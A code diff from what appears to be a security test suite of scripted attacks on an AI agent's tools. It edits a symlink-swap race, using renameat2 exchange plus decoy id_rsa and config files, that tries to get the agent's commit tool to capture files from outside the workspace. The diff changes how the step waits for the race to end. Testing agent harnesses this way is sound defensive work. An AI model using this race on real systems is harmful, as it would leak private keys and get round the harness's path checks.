@@ -26,7 +26,7 @@ const python = (lines: string) => `python3 - <<'PY'\n${lines}\nPY`
 const node = (lines: string) => `node - <<'JS'\n${lines}\nJS`
 
 /** Python, because it swaps two names in one step: a name that is gone for a moment would only be a deleted file. */
-const swapping = (target: string) => `mkdir -p d && printf '/e\\n' >> .gitignore; ln -sfn ${target} e
+const swapping = (target: string) => `mkdir -p d && printf '/e\\n/settled\\n' >> .gitignore; ln -sfn ${target} e
 for i in $(seq 1 1500); do echo "decoy $RANDOM $i" > d/a$i; done; echo decoy > d/id_rsa; cp d/id_rsa d/config
 timeout 25 python3 - <<'PY'
 import ctypes, time, random
@@ -34,7 +34,8 @@ libc = ctypes.CDLL(None)
 while True:
     libc.renameat2(-100, b'd', -100, b'e', 2)
     time.sleep(random.random() / 10)
-PY`
+PY
+touch settled`
 
 const settle = '[ ! -L d ] || { mv -T d x && mv -T e d && mv -T x e; }; ls -ld d e'
 
@@ -55,7 +56,7 @@ const swappedFolder: StepAttack = {
     ]),
     {
       tool: 'bash',
-      input: { command: `while pgrep -f renameat2 > /dev/null; do sleep 0.2; done; ${settle}`, timeout_ms: 60_000 },
+      input: { command: `until [ -e settled ]; do sleep 0.2; done; ${settle}`, timeout_ms: 60_000 },
     },
     { tool: 'commit', input: { message: 'what is left' } },
     { tool: 'bash', input: { command: 'git log -p --all -- d/id_rsa', timeout_ms: 40_000 } },
